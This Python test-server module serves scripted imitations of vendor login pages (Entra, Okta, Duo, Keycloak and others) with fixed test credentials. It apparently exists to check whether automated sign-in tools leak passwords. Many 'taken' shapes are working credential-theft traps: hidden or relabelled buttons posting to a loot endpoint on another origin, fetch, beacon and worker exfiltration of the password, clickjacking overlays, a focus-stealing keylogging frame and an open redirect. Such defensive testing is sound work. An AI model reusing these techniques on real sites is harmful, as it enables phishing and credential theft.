"""Logins that scripts make, in the shapes of products. User ada, password secret, code 123456; they end at /browser/finish.

A shape is a list of steps. Its pages are files in scripted_pages. A visit to one starts a flow, which a cookie identifies.
The scripts post each answer to /scripted/api/SHAPE/STEP as JSON, and the server judges the steps in this order only. After
the last one it sets the cookie 'signed' to the shape's name.
"""

import json
import secrets
from html import escape
from pathlib import Path
from urllib.parse import parse_qsl, urlencode, urlsplit

from .browser import FINISH
from .site import page

FILES = Path(__file__).with_name("scripted_pages")
USER, PASSWORD, CODE = "ada", "secret", "123456"
PROVIDER = "https://idp.institute.test/idp"
POLLS = 4       # a request on the telephone is confirmed after so many questions
FLOWS = {}      # the state of each flow, by the value of its cookie

# shape: (its steps, description)
SHAPES = {
    "entra": ("user password stay", "Microsoft: user name, a password that slides in, and then a page 'Stay signed in?'"),
    "okta": ("user method password method code", "Okta's widget: user name, choice of a method, password, choice, code"),
    "okta-direct": ("user password code", "Okta's widget without a choice; both secrets have the same name"),
    "ping": ("login", "PingOne: a button of type 'button', disabled until both fields are filled"),
    "duo-passcode": ("login method code trust", "Duo: a choice of methods, a passcode, and 'Is this your device?'"),
    "duo-number": ("login push", "Duo: a number to be typed on the telephone; continues by itself"),
    "keycloak": ("login code", "Keycloak: documents for password and code, with 'Try Another Way'"),
    "google": ("user password", "Google: a div as button, a hidden copy of the user name, and fields that only robots fill"),
    "auth0": ("login", "Auth0: custom elements with open shadow roots"),
    "auth0-closed": ("login", "the same with closed shadow roots"),
    "frame": ("login", "a login in a frame of the same origin"),
    "foreign": ("login", "a login in a frame of another port"),
    "foreign-site": ("login", "a login in a frame of another site"),
    "boxes": ("login code", "a code in six boxes, each for one digit"),
    "letters": ("login letters", "three letters of a word, each in a box with a name of its own"),
    "late": ("login", "the fields appear after three seconds"),
    "span": ("login", "the button is a span"),
    "banner": ("login", "a cookie banner covers the button"),
    "alert": ("login", "a wrong password gets a message in an element with the role 'alert'"),
    "mute": ("login", "a wrong password gets the form again, without a message"),
    "consent": ("login terms", "terms of use with a box, which enables the button"),
    "spinner": ("login", "a spinner, and a login form that is hidden at first"),
    "options": ("details boxes", "a list and radio buttons beside the password, and then boxes, one of them drawn by styles"),
    "realm-list": ("realm login", "a list of organisations with a button"),
    "realm-change": ("realm login", "a list of organisations; its change continues"),
    "realm-buttons": ("realm login", "AD FS: organisations as elements with handlers"),
    "discovery": ("realm login", "the discovery protocol: a page on which a script draws a field to search in"),
    "taken-button": ("login", "the button names another server (formaction)"),
    "taken-base": ("login", "the base of the addresses is another server"),
    "taken-script": ("login", "a script changes the form's action when it is sent"),
    "taken-get": ("login", "the button sends the form by GET"),
    "taken-unseen": ("login", "the default button is not seen, and names another server"),
    "taken-unseen-get": ("login", "the same, and sends by GET"),
    "taken-unseen-window": ("login", "the same, and its answer is shown in another window"),
    "taken-unseen-frame": ("login", "the same, and its answer is shown in a frame of another server"),
    "taken-unseen-owner": ("login", "the fields belong to another form, by their attribute"),
    "taken-label": ("login", "the button is in a label of another one, which is not seen"),
    "taken-inner": ("login", "a label of the button is over it, and has another one inside"),
    "taken-active": ("login", "something comes under the mouse between its press and its release, so that the label is clicked"),
    "taken-led": ("login", "a frame of another site leads the whole window to a login of its own"),
    "taken-bounced": ("login", "the same by way of a page of the own server that leads to whatever its address says"),
    "taken-answered": ("login", "a frame of another site leads the window to a page that brings the service a login of its own, and does not tell who it is"),
    "taken-framed": ("login", "a frame of another site brings it by itself"),
    "taken-referer": ("login", "the same label, and the other button sends by GET to the own server, where the limit of a field has cut the password"),
    "taken-data": ("login", "the same label, and the other button puts what was typed into a document of its own"),
    "taken-boxes": ("login", "boxes for one sign each: the first stands alone, the others belong to a form of another server"),
    "taken-hover": ("login", "the mouse brings another button over the one that it was moved to"),
    "taken-click": ("login", "a frame of another site over the page that is there for the mouse, and not for who asks the document"),
    "taken-focus": ("login", "a frame of another site takes the focus all the time, and sends on what is typed there"),
    "void": ("login", "the same, and the action of the form is 'javascript:void(0)'"),
}
# What stands in a form without a button that is seen: Return presses it.
UNSEEN = {
    shape: f'<button style="display: none" formaction="{{loot}}" {how}></button>' for shape, how in {
        "taken-unseen": "", "taken-unseen-get": 'formmethod="get"', "taken-unseen-window": 'formtarget="_blank"',
        "taken-unseen-frame": 'formtarget="inner"', "taken-unseen-owner": 'form="owner"'}.items()}
HOVER = ('<style>#over { display: none } form:hover #over { display: block; position: fixed; inset: 0; z-index: 9 }</style>'
         '<button id="over" formaction="{loot}" formtarget="_blank"></button>')
# The end of the document closes the style by itself, so that the address of its picture has the whole query.
DATA = "data:text/html,<body>x<style>body{background:url({loot}"
# What is around the button that is seen: a click on a label presses another one.
LABELS = {
    "taken-data": '<label for="other">%s</label><button id="other" style="display: none" formaction="' + DATA
                  + '" formmethod="get" formtarget="inner"></button>',
    "taken-boxes": '<label for="other">%s</label>',
    "taken-referer": '<label for="other">%s</label><button id="other" style="display: none" formmethod="get"></button>',
    "taken-label": '<label for="other">%s</label><button id="other" style="display: none" {to}></button>',
    "taken-inner": '<style>div { position: relative } label.over { position: absolute; inset: 0 } .over button '
                   '{ width: 100%%; height: 100%%; opacity: 0 }</style>'
                   '<div>%s<label class="over" for="shown"><button {to}></button></label></div>',
    "taken-active": '<style>label.w { position: relative } label.w span { display: none } label.w:active span '
                    '{ display: block; position: absolute; inset: 0; z-index: 9 }</style>'
                    '<label class="w" for="other">%s<span></span></label><button id="other" style="display: none" {to}></button>'}
# Logins whose server redirects what was sent to another one (307, 308): what differs from a form with two fields.
TAKEN_BY_REDIRECT = {
    "taken-redirect": ("the form as it is", {}),
    "taken-permanently": ("status 308", {"target": "/scripted/passed?308"}),
    "taken-in-steps": ("the second redirect leaves", {"target": "/scripted/passed?near"}),
    "taken-multipart": ("multipart/form-data", {"form": 'enctype="multipart/form-data"'}),
    "taken-plain": ("text/plain", {"form": 'enctype="text/plain"'}),
    "taken-limited": ("a password field with maxlength", {"field": 'maxlength="4"'}),
    "taken-encoded": ("a script that encodes and renames the field", {"change":
        "const one = form.password; one.name = 'x'; one.value = btoa(one.value);"}),
    "taken-split": ("a script that sends the letters one by one", {"change":
        "for (const one of form.password.value) form.insertAdjacentHTML('beforeend', `<input type=hidden name=p value=${one}>`);"
        "form.password.name = '';"}),
    "taken-frame": ("the answer is shown in a frame", {"form": 'target="inner"', "frame": '<iframe name="inner"></iframe>'}),
    "taken-window": ("the answer is shown in another window", {"form": 'target="_blank"'}),
    "taken-fetch": ("a script sends it", {"change": "fetch(to, { method: 'POST', mode: 'no-cors', body: text() }); return false;"}),
    "taken-kept": ("a script sends it, also when the page is left",
                   {"change": "fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text() }); return false;"}),
    "taken-xhr": ("the older way of scripts", {"change":
        "const one = new XMLHttpRequest(); one.open('POST', to); one.send(text()); return false;"}),
    "taken-beacon": ("a beacon", {"change": "navigator.sendBeacon(to, text()); return false;"}),
    "taken-worker": ("a worker sends it", {"change":
        "new Worker('/scripted/worker.js').postMessage([to, text()]); return false;"}),
    "taken-shared": ("a shared worker sends it", {"change":
        "self.SharedWorker ? new SharedWorker('/scripted/worker.js').port.postMessage([to, text()])"
        " : fetch(to, { method: 'POST', mode: 'no-cors', body: text() }); return false;"}),
    "taken-own-service": ("a service worker sends it by itself", {
        "start": "await navigator.serviceWorker?.register('/scripted/worker.js');",
        "change": "navigator.serviceWorker ? navigator.serviceWorker.ready.then(one => one.active.postMessage([to, text()]))"
                  " : fetch(to, { method: 'POST', mode: 'no-cors', body: text() }); return false;"}),
    "taken-sandbox": ("a frame in a sandbox sends it", {"change":
        "frame({ sandbox: 'allow-forms allow-scripts', srcdoc: `<form method=post action=${to}><input name=x></form><script>"
        "document.forms[0].x.value = ${JSON.stringify(text())}; document.forms[0].submit()<\\/script>` }); return false;"}),
    # These send the form itself afterwards, so that the sign-in ends.
    "taken-sandbox-directly": ("a form of a frame in a sandbox goes to the other server", {"change":
        "frame({ sandbox: 'allow-forms allow-scripts', srcdoc: `<form method=post action={loot}><input name=x></form><script>"
        "document.forms[0].x.value = '${form.password.value}'; document.forms[0].submit()<\\/script>` }); return later();"}),
    "taken-site": ("a frame of another site sends it", {"change":
        "const one = frame({ src: location.origin.replace('good.', '') + '/scripted/relay' });"
        "one.onload = () => one.contentWindow.postMessage(['/scripted/passed', 'what it was given'], '*');"
        "onmessage = () => form.submit(); return false;"}),
    "taken-gone": ("a frame that is gone at once sends it", {"change":
        "const one = frame({}); one.contentWindow.fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text() });"
        "one.remove(); return later();"}),
    "taken-gone-beacon": ("the same by a beacon", {"change":
        "const one = frame({}); one.contentWindow.navigator.sendBeacon(to, text()); one.remove(); return later();"}),
    "taken-service": ("a service worker sends what the form sends", {"start":
        "await navigator.serviceWorker?.register('/scripted/service.js').then(() => navigator.serviceWorker.ready);"}),
}
SHAPES |= {shape: ("login", "the server redirects what was sent to another one: " + about)
           for shape, (about, _) in TAKEN_BY_REDIRECT.items()}
# Shapes that share a file with another.
SAME = {"okta-direct": "okta", "duo-number": "duo", "duo-passcode": "duo", "foreign-site": "foreign", "void": "spinner",
        "auth0-closed": "auth0", "realm-list": "realm", "realm-change": "realm", "realm-buttons": "realm",
        **{shape: "taken" for shape in SHAPES if shape.startswith("taken-")}}


def _is_right(step, given, flow):
    """Whether this answer to the step is right."""
    if given.get("trap"):
        return False
    if step == "push":
        flow["polls"] += 1
        return flow["polls"] > POLLS
    wanted = {"user": {"user": USER}, "password": {"password": PASSWORD}, "login": {"user": USER, "password": PASSWORD},
              "code": {"code": CODE}, "letters": {"word": "erb"}, "terms": {"agrees": True}, "realm": {"idp": PROVIDER},
              "details": {"user": USER, "password": PASSWORD, "region": "south", "kind": "staff"},
              "boxes": {"terms": True, "safety": True, "lend": False}}.get(step, {})
    return all(given.get(name) == value for name, value in wanted.items())


def judge(visit, shape, step, given):
    """Judges an answer. Returns an error, the name of the next step, or None and the cookies of the end."""
    flow = visit.state("flow", FLOWS)
    if flow is None or flow["shape"] != shape or not flow["left"] or flow["left"][0] != step:
        return {"error": "Your session has expired."}, []
    if not _is_right(step, given, flow):
        return {"error": "waiting" if step == "push" else WRONG.get(step, "That did not work.")}, []
    if step in ("stay", "trust"):
        flow["kept"] = "yes" if given.get("keep") is True else "no"
    flow["left"].pop(0)
    if flow["left"]:
        return {"next": flow["left"][0]}, []
    return {"done": FINISH}, [("Set-Cookie", f"signed={shape}; Path=/; Secure; HttpOnly"),
                              ("Set-Cookie", f"kept={flow['kept']}; Path=/; Secure")]


WRONG = {"user": "We could not find an account with that name.", "password": "Your account or password is incorrect.",
         "login": "Wrong user name or password.", "code": "The code is not right. Try again."}


def show(visit, shape, file=None, error="", headers=()):
    """Sends a page. A new visit starts a flow."""
    text = (FILES / f"{file or SAME.get(shape, shape)}.html").read_text()
    inner = {"foreign": visit.context.urls["other"], "foreign-site": visit.own.replace("good.localhost", "localhost")}
    action = ' action="javascript:void(0)"' if shape == "void" else ""
    for name, value in {**taken(visit, shape), "shape": shape, "error": escape(error), "inner": inner.get(shape, ""), "action": action,
                        "mode": "closed" if shape == "auth0-closed" else "open"}.items():
        text = text.replace("{{" + name + "}}", value)
    visit.answer(200, text, headers=headers)


# Each picture has the frame under the mouse; the task behind it takes it away.
FLICKER = """<iframe src="{}?click" style="position: fixed; inset: 0; width: 100vw; height: 100vh; opacity: 0.001; border: 0"></iframe>
    <script>
    const cover = document.querySelector("iframe"), channel = new MessageChannel();
    channel.port1.onmessage = () => {{ cover.style.pointerEvents = "none"; cover.offsetTop; }};
    const draw = () => {{ cover.style.pointerEvents = "auto"; channel.port2.postMessage(0); requestAnimationFrame(draw); }};
    draw();
    </script>"""
# What the frame of these shapes does, by its query.
LED = {"taken-led": "led", "taken-bounced": "bounced", "taken-answered": "answered", "taken-framed": "framed"}


def taken(visit, shape):
    """Returns what differs between the pages that take a password elsewhere."""
    loot = visit.context.urls["other"] + "/scripted/loot"
    thief = visit.own.replace("good.localhost", "localhost") + "/scripted/thief"
    by_redirect = TAKEN_BY_REDIRECT.get(shape, ("", {}))[1]
    return {
        "form": by_redirect.get("form", ""),
        "field": {"taken-unseen-owner": 'form="owner"', "taken-boxes": 'form="none" maxlength="1"',
                  "taken-referer": 'maxlength="4"'}.get(
            shape, by_redirect.get("field", "")),
        "start": "await new Promise(done => setTimeout(done, 60000));" if shape in LED else by_redirect.get("start", ""),
        "base": f'<base href="{visit.context.urls["other"]}/">' if shape == "taken-base" else "",
        "target": by_redirect.get("target", "/scripted/passed") if shape in TAKEN_BY_REDIRECT
        else {"taken-base": "scripted/loot", "taken-hover": "/scripted/honest?hover", "taken-click": "/scripted/honest?click"}.get(shape, "/scripted/honest"),
        "send": "" if shape in UNSEEN else LABELS.get(shape, "%s").replace("{to}", f'formaction="{loot}" formtarget="_blank"').replace("{loot}", loot)
        % ('<button type="submit" id="shown" %s>Sign in</button>' % {
            "taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"',
            **dict.fromkeys(["taken-label", "taken-data", "taken-boxes", "taken-referer"], 'style="pointer-events: none"')}.get(shape, "")),
        "unseen": (HOVER if shape == "taken-hover" else UNSEEN.get(shape, "")).replace("{loot}", loot),
        "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", "").replace("{loot}", loot),
        "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus"
        else FLICKER.format(thief) if shape == "taken-click"
        else f'<iframe name="inner" src="{loot}"></iframe>' if shape == "taken-unseen-frame"
        else f'<form id="owner" method="post" action="{loot}"></form>' if shape == "taken-unseen-owner"
        else '<iframe name="inner"></iframe>' if shape == "taken-data"
        else f'<form action="{loot}">' + "".join(f'<input type="password" maxlength="1" name="{name}">' for name in "abcde")
        + '<button id="other"></button></form>' if shape == "taken-boxes"
        else f'<iframe sandbox="allow-scripts allow-top-navigation" src="{thief}?{LED[shape]}"></iframe>' if shape in LED
        else by_redirect.get("frame", ""),
    }


def begin(visit, shape):
    key = secrets.token_hex(16)
    FLOWS[key] = {"shape": shape, "left": SHAPES[shape][0].split(), "polls": 0, "kept": "unasked"}
    cookie = ("Set-Cookie", f"flow={key}; Path=/scripted; Secure; HttpOnly")
    if shape == "discovery":
        request = {"entityID": visit.own + "/sp", "return": visit.own + "/scripted/discovered?target=1"}
        visit.redirect("/scripted/wayf?" + urlencode(request), headers=[cookie])
    else:
        show(visit, shape, headers=[cookie])


@page("/scripted/api/*", "judges the answers of scripts: /scripted/api/SHAPE/STEP")
def answer(visit):
    shape, _, step = urlsplit(visit.path).path.removeprefix("/scripted/api/").partition("/")
    try:
        given = json.loads(visit.body)
    except ValueError:
        given = None
    if visit.command != "POST" or not isinstance(given, dict):
        visit.answer(400, "{}", "application/json")
        return
    result, cookies = judge(visit, shape, step, given)
    visit.answer(200, json.dumps(result), "application/json", cookies)


@page("/scripted/call.js", "the function with which the pages send answers")
def call(visit):
    visit.answer(200, (FILES / "call.js").read_bytes(), "text/javascript")


@page("/scripted/inner", "the login in the frames of /scripted/frame and /scripted/foreign; ?shape")
def inner(visit):
    shape = visit.query.get("shape", "")
    show(visit, shape if shape in SHAPES else "frame", "inner")


@page("/scripted/wayf", "the discovery service of /scripted/discovery")
def wayf(visit):
    show(visit, "discovery")


@page("/scripted/discovered", "where /scripted/discovery gets the choice; ?entityID")
def discovered(visit):
    result, _ = judge(visit, "discovery", "realm", {"idp": visit.query.get("entityID")})
    if "error" in result or visit.query.get("target") != "1":
        visit.html("Error", "<p>Unknown identity provider.</p>", 400)
    else:
        show(visit, "discovery", "realm")


@page("/scripted/loot", "what the pages /scripted/taken-… take somewhere else")
def loot(visit):
    visit.html("Thanks", "<p>Thanks.</p>")


@page("/scripted/passed", "redirects what was posted, to /scripted/loot of another port; ?308, or ?near: here first")
def passed(visit):
    how = urlsplit(visit.path).query
    if how == "near":
        visit.redirect("/scripted/passed", 307)
    else:
        visit.redirect(visit.context.urls["other"] + "/scripted/loot", 308 if how == "308" else 307)


@page("/scripted/worker.js", "a worker of any kind that sends what it is given")
def worker(visit):
    visit.answer(200, "onmessage = event => fetch(event.data[0], { method: 'POST', mode: 'no-cors', body: event.data[1] });"
                      "onconnect = event => event.ports[0].onmessage = onmessage;", "text/javascript")


@page("/scripted/relay", "a page that sends what it is given, and tells when it was answered, for the frame of /scripted/taken-site")
def relay(visit):
    visit.html("Relay", """<script>onmessage = event =>
        fetch(event.data[0], { method: 'POST', mode: 'no-cors', body: event.data[1] })
            .catch(() => {}).then(() => event.source.postMessage('', '*'));</script>""")


@page("/scripted/service.js", "a service worker that sends each request of its pages itself")
def service(visit):
    visit.answer(200, "oninstall = () => skipWaiting(); onactivate = event => event.waitUntil(clients.claim());"
                      "onfetch = event => event.respondWith(fetch(event.request, { redirect: 'follow' }));", "text/javascript")


@page("/scripted/thief", "takes the focus, for the frame of /scripted/taken-focus, ?click the click; ?led, ?bounced, ?answered and ?framed lead the window")
def thief(visit):
    query = urlsplit(visit.path).query
    if query == "led":
        return visit.html("Advertisement", '<script>setTimeout(() => { top.location = "/scripted/thief?form" }, 1000)</script>')
    if query == "bounced":
        return visit.html("Advertisement", """<script>setTimeout(() => {
            const own = location.origin.replace("//", "//good.");
            top.location = own + "/scripted/leave?" + location.origin + "/scripted/thief?form";
            }, 1000)</script>""")
    if query == "click":
        return visit.html("Shop", """<style>button { position: fixed; inset: 0; width: 100vw; height: 100vh }</style><button>Pay</button>
            <script>for (const kind of ["pointerdown", "click", "keydown"]) addEventListener(kind, () => fetch("/scripted/loot?" + kind));
            </script>""")
    if query == "framed":
        own = visit.own.replace("//localhost", "//good.localhost")
        return visit.html("Advertisement", f'<script>setTimeout(() => {{ top.location = "{own}{FINISH}?ticket=ST-1" }}, 1000)</script>',
                          headers=[("Referrer-Policy", "no-referrer")])
    if query == "answered":
        return visit.html("Advertisement", '<script>setTimeout(() => { top.location = "/scripted/thief?answer" }, 1000)</script>')
    if query == "answer":
        own = visit.own.replace("//localhost", "//good.localhost")
        return visit.html("One moment", f'<form method="post" action="{own}{FINISH}"><input type="hidden" name="SAMLResponse" '
                          'value="eA=="></form><script>document.forms[0].submit()</script>', headers=[("Referrer-Policy", "no-referrer")])
    if query == "form":
        return visit.html("Sign in", '<form method="post" action="/scripted/loot"><label>User name <input name="user"></label>'
                          '<label>Password <input name="password" type="password"></label><button>Sign in</button></form>')
    return visit.html("Advertisement", """<input id="trap"><script>
        const trap = document.getElementById("trap");
        setInterval(() => { window.focus(); trap.focus(); }, 0);
        trap.oninput = () => fetch("/scripted/loot?taken=" + encodeURIComponent(trap.value));
        </script>""")


@page("/scripted/leave", "leads to the address in its query")
def leave(visit):
    target = urlsplit(visit.path).query.replace('"', "")
    visit.html("You leave this site", f'<meta http-equiv="refresh" content="1;url={target}"><p>One moment.</p>')


@page("/scripted/honest", "the form of /scripted/taken-focus")
def honest(visit):
    given = _posted(visit)
    shape = {"hover": "taken-hover", "click": "taken-click"}.get(urlsplit(visit.path).query, "taken-focus")
    result, cookies = judge(visit, shape, "login", given)
    visit.redirect(result["done"], headers=cookies) if "done" in result else visit.html("Error", result["error"], 400)


def _posted(visit):
    return dict(parse_qsl(visit.body.decode("utf-8", "replace"), keep_blank_values=True))


def _page(shape, about):
    @page(f"/scripted/{shape}", about)
    def visited(visit):
        begin(visit, shape)


for _shape, (_, _about) in SHAPES.items():
    _page(_shape, _about)


@page("/scripted/entra/login", "the form with the password of /scripted/entra")
def entra_login(visit):
    given = _posted(visit)
    result, _ = judge(visit, "entra", "password", {"password": given.get("passwd")})
    if "error" in result:
        show(visit, "entra", "entra-refused", result["error"])
    else:
        show(visit, "entra", "entra-kmsi")


@page("/scripted/entra/kmsi", "the answer to 'Stay signed in?'")
def entra_kmsi(visit):
    given = _posted(visit)
    result, cookies = judge(visit, "entra", "stay", {"keep": given.get("LoginOptions") == "1"})
    visit.redirect(result["done"], headers=cookies) if "done" in result else visit.html("Error", result["error"], 400)


@page("/scripted/keycloak/authenticate", "the forms of /scripted/keycloak")
def keycloak(visit):
    given = _posted(visit)
    if "otp" in given:
        step, answers = "code", {"code": given["otp"]}
    else:
        step, answers = "login", {"user": given.get("username"), "password": given.get("password")}
    if "tryAnotherWay" in given:
        visit.html("Select login method", "<p>No other way is set up.</p>")
        return
    result, cookies = judge(visit, "keycloak", step, answers)
    if "done" in result:
        visit.redirect(result["done"], headers=cookies)
    else:
        file = "keycloak" if step == "login" and "error" in result else "keycloak-otp"
        show(visit, "keycloak", file, result.get("error", ""))
